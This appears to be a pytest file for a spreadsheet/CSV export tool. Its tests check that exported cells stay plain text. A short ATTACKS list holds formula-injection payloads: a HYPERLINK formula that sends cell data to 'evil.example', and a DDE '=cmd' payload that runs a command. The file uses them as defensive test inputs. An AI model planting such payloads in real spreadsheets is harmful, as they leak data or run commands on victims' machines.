"""Cells we write into workbooks and CSV files hold text, never formulas, and keep their
line breaks, tabs, quotes and digit-like text as written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from conftest import Run, write_plan


def _xlsx_plan(tmp_path: Path, title: str, unit: str = "区司法局") -> Path:
    return write_plan(tmp_path / "p.yaml", [{"id": 1, "title": title, "responsible": [unit]}])


@pytest.mark.parametrize("odd", ["①", "²", "١٢"])
def test_xlsx_export_of_digit_like_text(run: Run, tmp_path: Path, odd: str) -> None:
    """Cells such as ① or ² are text (isdigit() is true for them, int() fails)."""
    openpyxl = pytest.importorskip("openpyxl")
    plan = _xlsx_plan(tmp_path, odd)
    result = run("export", str(tmp_path / "x.xlsx"), "-f", str(plan), "--today", "2020-08-01")
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["任务"]
    assert sheet["C2"].value == odd and sheet["A2"].value == 1


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]


# Test ids without quotes: the mutation tool passes test ids through a shell.
ATTACK_IDS = ["hyperlink", "dde", "plus", "at"]


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_xlsx_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    plan = _xlsx_plan(tmp_path, attack, unit=attack)
    result = run("export", str(tmp_path / "x.xlsx"), "-f", str(plan), "--today", "2020-08-01")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == attack]
    assert {c.parent.title for c in cells} == {"任务", "单位进度"}  # title and unit, both sheets
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("attack", [*ATTACKS, "-2"], ids=[*ATTACK_IDS, "minus"])
def test_csv_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    plan = _xlsx_plan(tmp_path, attack)
    stdout = run("list", "-f", str(plan), "--today", "2020-08-01", "--format", "csv").stdout
    exported = tmp_path / "x.csv"
    run("export", str(exported), "-f", str(plan), "--today", "2020-08-01")
    for text in (stdout, exported.read_text(encoding="utf-8-sig")):
        cell = next(r for r in csv.DictReader(io.StringIO(text)))["title"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))  # never a formula
        assert cell in (f"'{attack}", attack.replace("\t", "\\t"))  # the text itself, made safe


def test_csv_cell_text_for_tab_and_cr() -> None:
    from zwgk_cli.render.safe import cell_text

    assert cell_text("\t=1") == "'\t=1" and cell_text("\r=1") == "'\r=1" and cell_text("甲") == "甲"


def test_csv_quotes_commas_quotes_and_line_breaks(run: Run, tmp_path: Path) -> None:
    """A cell with a comma, a quote or a line break reads back as one cell."""
    title, note = '甲，乙,丙 "丁"', "第一行\n第二行"
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "title": title, "note": note}])
    text = run("list", "-f", str(plan), "--today", "2020-08-01", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1 and rows[0]["title"] == title and rows[0]["note"] == note


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_feedback_forms_hold_no_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    """Issue 23.10: plan text starting with = went into the forms sent to units as live formulas,
    in the rows and in the identity sheet (the plan's title)."""
    openpyxl = pytest.importorskip("openpyxl")
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "title": attack}], title=attack)
    out = tmp_path / "发出"
    result = run(
        "export", "--feedback", "-u", "区司法局", "-o", str(out), "-f", str(plan), "--today", "2020-08-01"
    )
    assert result.exit_code == 0, result.output
    (form,) = out.glob("*.xlsx")
    book = openpyxl.load_workbook(form)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == attack]
    assert len({c.parent.title for c in cells}) == 2  # the rows and the identity sheet
    assert all(c.data_type == "s" for c in cells)
